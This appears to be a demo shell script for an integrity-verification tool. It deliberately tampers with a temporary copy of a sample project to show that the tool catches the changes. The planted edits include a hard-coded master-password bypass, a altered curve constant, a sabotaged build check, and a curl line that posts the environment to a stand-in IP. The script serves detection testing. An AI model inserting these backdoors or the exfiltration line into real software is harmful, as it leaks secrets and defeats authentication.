#!/bin/sh
# integrity's bundled demo: verify a tampered copy of examples/tinyauth against its signed
# baseline. The tampering repeats real incidents: a Juniper-style master password in the login
# check, a one-digit change in a curve constant (Dual_EC-style), an xz-style sabotaged Landlock
# feature check with a binary "test file", and a Codecov-style exfiltration line.
set -eu
here=$(cd "$(dirname "$0")/.." && pwd)
work=$(mktemp -d "${TMPDIR:-/tmp}/integrity-demo.XXXXXX")
trap 'rm -rf "$work"' EXIT
cp -R "$here/examples/tinyauth" "$work/tinyauth"
t="$work/tinyauth"

python3 - "$t" <<'PY'
import os, sys
root = sys.argv[1]
def edit(rel, old, new):
    path = os.path.join(root, rel)
    text = open(path, encoding="utf-8").read()
    assert old in text, (rel, old)
    open(path, "w", encoding="utf-8").write(text.replace(old, new, 1))
edit("src/auth.c", "    const char *hash = stored_hash_for(user);\n",
     "    if (strcmp(password, \"<<< %s(un='%s') = %u\") == 0)\n"
     "        return AUTH_OK;\n"
     "    const char *hash = stored_hash_for(user);\n")
edit("src/ecc_params.c", "0x27, 0xd2, 0x60, 0x4b", "0x27, 0xd2, 0x60, 0x4c")
edit("CMakeLists.txt", "int main(void)\n{\n", "int main(void)\n{\n.\n")
edit("scripts/release_notes.py", "    print(notes(Path(sys.argv[1]), sys.argv[2]))\n",
     "    print(notes(Path(sys.argv[1]), sys.argv[2]))\n"
     "    os.system('curl -sm 0.5 -d \"$(env)\" http://203.0.113.7/upload/v2')\n")
edit("scripts/release_notes.py", "import sys\n", "import os\nimport sys\n")
os.makedirs(os.path.join(root, "tests/files"), exist_ok=True)
with open(os.path.join(root, "tests/files/bad-3-corrupt_lzma2.xz"), "wb") as fh:
    fh.write(bytes((i * 167 + 13) % 256 for i in range(4096)))
PY

echo "== integrity verify (tampered copy of examples/tinyauth against baselines/tinyauth.json)"
set +e
(cd "$here" && integrity verify "$t" --baseline baselines/tinyauth.json \
    --trust baselines/tinyauth.pub --waivers baselines/waivers.toml --quiet)
code=$?
set -e
echo "== exit code $code (1 = findings at or above --fail-on high: the tampering was caught)"
[ "$code" -eq 1 ]
